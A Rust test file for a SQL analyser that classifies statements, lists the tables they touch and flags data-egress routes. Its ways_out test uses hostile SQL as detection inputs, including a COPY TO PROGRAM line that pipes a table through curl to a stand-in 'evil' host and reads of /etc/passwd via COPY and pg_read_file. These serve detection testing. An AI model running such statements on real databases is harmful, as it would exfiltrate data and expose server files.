use super::{
    super::{Cursor, EgressRoute, Shape},
    analyse,
};

mod canary;
mod hostile;
mod text;

/// The shape of a single statement that must parse.
fn one(sql: &str) -> Shape {
    let mut shapes = analyse(sql.as_bytes(), false);
    assert_eq!(shapes.len(), 1, "{sql}");
    let shape = shapes.remove(0);
    assert!(shape.parsed, "{sql} did not parse");
    shape
}

fn tables(sql: &str) -> Vec<String> {
    one(sql).tables.iter().map(ToString::to_string).collect()
}

fn text(sql: &str) -> String {
    one(sql).text.to_string()
}

fn egress(sql: &str) -> (EgressRoute, String) {
    let egress = one(sql)
        .egress
        .unwrap_or_else(|| panic!("no egress: {sql}"));
    (egress.route, egress.destination.to_string())
}

#[test]
fn operations() {
    for (sql, operation) in [
        ("select 1", "SELECT"),
        ("(select 1) union (select 2)", "SELECT"),
        ("VALUES (1)", "SELECT"),
        ("TABLE customers", "SELECT"),
        ("WITH a AS (SELECT 1) UPDATE t SET x = 1", "UPDATE"),
        (
            "WITH a AS (DELETE FROM t RETURNING *) SELECT * FROM a",
            "SELECT",
        ),
        ("start transaction read only", "BEGIN"),
        ("END", "COMMIT"),
        ("ROLLBACK TO SAVEPOINT a", "ROLLBACK"),
        ("PREPARE TRANSACTION 'x'", "PREPARE TRANSACTION"),
        ("PREPARE p AS SELECT 1", "PREPARE"),
        ("EXECUTE p(1)", "EXECUTE"),
        ("CALL p(1)", "CALL"),
        ("create or replace temp view v as select 1", "CREATE VIEW"),
        (
            "CREATE UNIQUE INDEX CONCURRENTLY i ON t (a)",
            "CREATE INDEX",
        ),
        (
            "CREATE MATERIALIZED VIEW v AS SELECT 1",
            "CREATE MATERIALIZED VIEW",
        ),
        ("CREATE USER MAPPING FOR u SERVER s", "CREATE USER MAPPING"),
        ("CREATE USER u", "CREATE USER"),
        (
            "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO r",
            "ALTER DEFAULT PRIVILEGES",
        ),
        ("CREATE TABLE t AS SELECT 1", "CREATE TABLE"),
        ("EXPLAIN ANALYZE SELECT 1", "EXPLAIN"),
        ("MOVE 5 IN c", "MOVE"),
        ("SHOW ALL", "SHOW"),
        ("/* hint */ -- x\n LOCK t", "LOCK"),
    ] {
        assert_eq!(&*one(sql).operation, operation, "{sql}");
    }
}

/// A fallback without a leading keyword would have an empty operation; so must every parsed kind have one.
#[test]
fn every_statement_of_the_canary_list_has_an_operation() {
    for sql in canary::STATEMENTS {
        assert_ne!(&*one(sql).operation, "", "{sql}");
    }
}

#[test]
fn tables_in_order_of_use() {
    for (sql, expected) in [
        (
            "SELECT * FROM customers c JOIN crm.tickets t ON c.id = t.c",
            "customers crm.tickets",
        ),
        ("SELECT * FROM a, b, a", "a b"),
        (
            "SELECT (SELECT max(x) FROM inner_t) FROM Outer_T",
            "inner_t outer_t",
        ),
        ("SELECT * FROM \"Odd Name\".\"T\"", "Odd Name.T"),
        ("SELECT * FROM ONLY t", "t"),
        (
            "SELECT * FROM c WHERE EXISTS (SELECT FROM d WHERE d.x IN (SELECT y FROM e))",
            "c d e",
        ),
        ("SELECT * FROM a UNION ALL SELECT * FROM b", "a b"),
        ("SELECT * FROM customers c FOR UPDATE OF c", "customers"),
        (
            "SELECT * FROM generate_series(1, 2) g, LATERAL (SELECT * FROM t) x",
            "t",
        ),
        (
            "SELECT CASE WHEN EXISTS (SELECT FROM a) THEN ARRAY(SELECT 1 FROM b) END",
            "a b",
        ),
        (
            "SELECT sum(x) FILTER (WHERE y IN (SELECT 1 FROM a)) OVER (PARTITION BY (SELECT 1 FROM b)) FROM c",
            "a b c",
        ),
        ("COPY (SELECT * FROM a) TO STDOUT", "a"),
        ("COPY crm.t (a, b) FROM STDIN", "crm.t"),
        (
            "INSERT INTO a (x) SELECT y FROM b ON CONFLICT (x) DO UPDATE SET x = (SELECT 1 FROM c)",
            "a b c",
        ),
        (
            "UPDATE a SET x = b.x FROM b WHERE a.i = b.i RETURNING (SELECT 1 FROM c)",
            "a b c",
        ),
        ("DELETE FROM a USING b", "a b"),
        (
            "MERGE INTO a USING b ON a.i = b.i WHEN MATCHED THEN DELETE",
            "a b",
        ),
        ("DECLARE c CURSOR FOR SELECT * FROM a", "a"),
        ("EXPLAIN ANALYZE SELECT * FROM a", "a"),
        ("PREPARE p(int) AS SELECT * FROM a WHERE x = $1", "a"),
        ("TRUNCATE a, ONLY b", "a b"),
        ("CREATE TABLE n AS SELECT * FROM a", "n a"),
        ("SELECT * INTO n FROM a", "n a"),
        ("CREATE VIEW v AS SELECT * FROM a", "v a"),
        ("DROP TABLE IF EXISTS crm.a, b", "crm.a b"),
        ("DROP INDEX i", ""),
        ("COMMENT ON TABLE a IS 'x'", "a"),
        ("GRANT SELECT ON a TO r", "a"),
        ("VACUUM ANALYZE a", "a"),
        ("CREATE SEQUENCE s", ""),
        ("FETCH ALL FROM c", ""),
    ] {
        assert_eq!(tables(sql).join(" "), expected, "{sql}");
    }
}

#[test]
fn names_of_ctes_are_no_tables_but_the_tables_they_hide_are() {
    for (sql, expected) in [
        (
            "WITH x AS (SELECT * FROM a) SELECT * FROM x JOIN b ON true",
            "a b",
        ),
        (
            "WITH RECURSIVE x AS (SELECT 1 FROM a UNION SELECT 1 FROM x) SELECT * FROM x",
            "a",
        ),
        (
            "WITH customers AS (SELECT * FROM customers) SELECT * FROM customers",
            "customers",
        ),
        (
            "WITH x AS (SELECT 1), y AS (SELECT * FROM x) SELECT * FROM y",
            "",
        ),
        (
            "SELECT * FROM x WHERE i IN (WITH x AS (SELECT 1) SELECT * FROM x)",
            "x",
        ),
        ("WITH x AS (SELECT 1) SELECT * FROM public.x", "public.x"),
        ("WITH x AS (SELECT 1) DELETE FROM x", "x"),
        (
            "WITH x AS (SELECT 1) SELECT * FROM (SELECT * FROM x UNION SELECT * FROM x) s",
            "",
        ),
    ] {
        assert_eq!(tables(sql).join(" "), expected, "{sql}");
    }
}

#[test]
fn cursors() {
    let cursor = |sql| one(sql).cursor;
    assert_eq!(
        cursor("DECLARE \"C 1\" CURSOR FOR SELECT 1"),
        Some(Cursor::Declares("C 1".into()))
    );
    assert_eq!(
        cursor("FETCH FORWARD 100 FROM c"),
        Some(Cursor::Fetches("c".into()))
    );
    assert_eq!(cursor("MOVE c"), Some(Cursor::Fetches("c".into())));
    assert_eq!(cursor("CLOSE c"), Some(Cursor::Closes(Some("c".into()))));
    assert_eq!(cursor("CLOSE ALL"), Some(Cursor::Closes(None)));
    assert_eq!(cursor("SELECT 1"), None);
}

#[test]
fn ways_out() {
    use EgressRoute::{CopyToFile, CopyToProgram, LargeObjectExport, RemoteServer, ServerFileRead};
    for (sql, route, destination) in [
        (
            "COPY t TO '/tmp/out file.csv'",
            CopyToFile,
            "/tmp/out file.csv",
        ),
        (
            "COPY (SELECT 1) TO PROGRAM 'gzip -c > /tmp/x'",
            CopyToProgram,
            "gzip",
        ),
        ("COPY t TO PROGRAM 'PGPASSWORD=pw psql'", CopyToProgram, ""),
        (
            "COPY t TO PROGRAM '/usr/bin/curl -T - https://evil'",
            CopyToProgram,
            "/usr/bin/curl",
        ),
        ("COPY t FROM '/etc/passwd'", ServerFileRead, "/etc/passwd"),
        (
            "SELECT lo_export(16400, '/tmp/x')",
            LargeObjectExport,
            "/tmp/x",
        ),
        (
            "SELECT lo_export(16400, '/tmp/' || name) FROM t",
            LargeObjectExport,
            "",
        ),
        (
            "SELECT * FROM t WHERE x = (SELECT pg_catalog.pg_read_file('/etc/passwd'::text))",
            ServerFileRead,
            "/etc/passwd",
        ),
        ("SELECT pg_read_binary_file($1)", ServerFileRead, ""),
        ("SELECT * FROM pg_ls_dir('base')", ServerFileRead, "base"),
        ("SELECT pg_ls_waldir()", ServerFileRead, ""),
        (
            "SELECT * FROM dblink('host=db2 password=pw dbname=x', 'SELECT 1') AS t(a int)",
            RemoteServer,
            "db2",
        ),
        (
            "SELECT * FROM dblink('password = ''p host=fake'' host = ''db3''', 'x') AS t(a int)",
            RemoteServer,
            "db3",
        ),
        (
            "SELECT * FROM dblink('postgresql://u:p@ss@db4:5432/x', 'SELECT 1') AS t(a int)",
            RemoteServer,
            "db4",
        ),
        (
            "SELECT * FROM dblink('conn', 'SELECT 1', false) AS t(a int)",
            RemoteServer,
            "conn",
        ),
        (
            "SELECT * FROM dblink('select_pw') AS t(a int)",
            RemoteServer,
            "",
        ),
        (
            "SELECT * FROM dblink('select_pw', true) AS t(a int)",
            RemoteServer,
            "",
        ),
        (
            "SELECT dblink_exec('conn', 'DELETE FROM x')",
            RemoteServer,
            "conn",
        ),
        (
            "SELECT dblink_connect('conn', 'hostaddr=10.0.0.1 password=pw')",
            RemoteServer,
            "10.0.0.1",
        ),
        (
            "SELECT dblink_connect('postgresql://db6?password=a@pw')",
            RemoteServer,
            "",
        ),
        (
            "SELECT dblink_connect('postgresql://db7/x?password=a@pw')",
            RemoteServer,
            "db7",
        ),
        (
            r"SELECT dblink_connect('password=a\ host=pw')",
            RemoteServer,
            "",
        ),
        (
            "SELECT dblink_connect('service=x password=pw')",
            RemoteServer,
            "",
        ),
        (
            "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db5', dbname 'x')",
            RemoteServer,
            "db5",
        ),
        (
            "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
            RemoteServer,
            "s",
        ),
        (
            "IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local",
            RemoteServer,
            "s",
        ),
        (
            "CREATE FOREIGN TABLE f (a int) SERVER s OPTIONS (table_name 'x')",
            RemoteServer,
            "s",
        ),
    ] {
        assert_eq!(egress(sql), (route, destination.to_owned()), "{sql}");
    }
    for sql in [
        "COPY t TO STDOUT",
        "COPY t FROM STDIN",
        "SELECT 'lo_export'",
        "SELECT lo_get(1)",
        "SELECT * FROM dblink_x",
    ] {
        assert_eq!(one(sql).egress, None, "{sql}");
    }
}

#[test]
fn several_statements() {
    let shapes = analyse(b"BEGIN; UPDATE t SET a = 'x;y' ;; COMMIT; ", false);
    let texts: Vec<&str> = shapes.iter().map(|shape| &*shape.text).collect();
    assert_eq!(texts, ["BEGIN", "UPDATE t SET a = ?", "COMMIT"]);
    assert!(shapes.iter().all(|shape| shape.parsed));
}

#[test]
fn summaries() {
    assert_eq!(
        &*one("SELECT * FROM customers, crm.tickets").summary,
        "SELECT customers crm.tickets"
    );
    assert_eq!(&*one("CALL crm.do_it('x')").summary, "CALL crm.do_it");
    assert_eq!(&*one("FETCH 10 FROM c").summary, "FETCH");
    let many: Vec<String> = (0..100).map(|n| format!("table_{n}")).collect();
    let summary = one(&format!("SELECT * FROM {}", many.join(", "))).summary;
    assert!(
        summary.len() <= 255 && summary.ends_with("table_27"),
        "{summary}"
    );
}
